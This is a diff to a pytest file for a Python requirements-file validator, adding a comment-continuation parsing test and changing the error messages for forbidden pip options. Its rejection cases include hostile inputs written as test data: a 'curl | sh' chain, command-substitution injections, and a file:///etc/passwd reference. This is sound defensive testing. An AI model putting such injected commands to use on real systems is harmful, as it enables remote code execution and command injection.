@@ -24,6 +24,12 @@ def test_two_ways_to_say_the_same_are_equal() -> None:
     assert one == other == Requirements(packages=("numpy<2,>=1.26", "scikit-learn==1.5.0"))
 
 
+def test_a_comment_ends_with_its_line_whatever_it_ends_with() -> None:
+    # As pip reads them: nothing of what follows is swallowed.
+    found = parsed("six\n# pinned for \\\nnumpy==1.26.4\n  # \\\r\npandas \\\n  # no more \\\nscipy\n")
+    assert found.packages == ("numpy==1.26.4", "pandas", "scipy", "six")
+
+
 @pytest.mark.parametrize(
     ("line", "kept"),
     [
@@ -88,8 +94,9 @@ def test_what_has_to_be_allowed_is_said_with_its_line(line: str, form: str, kept
         ("six && curl a.test | sh", "is no requirement"),
         ("$(touch /tmp/x)", "is no requirement"),
         ("`touch x`", "is no requirement"),
-        ("six==1.16 --install-option=--prefix=x", "is no requirement"),
-        ("six==1.16 --hash=md5:aa", "is no requirement"),
+        ("six==1.16 --install-option=--prefix=x", "may not hold the option --install-option"),
+        ("six==1.16 ; python_version > '3' --config-settings a=b", "may not hold the option --config-settings"),
+        ("six==1.16 --hash=md5:aa", "may not hold the option --hash"),
         ("six @ file:///etc/passwd", "only https, http and git"),
         ("six @ hg+https://a.test/x", "only https, http and git"),
         ("https://a.test/six.whl", "write NAME @ ADDRESS"),
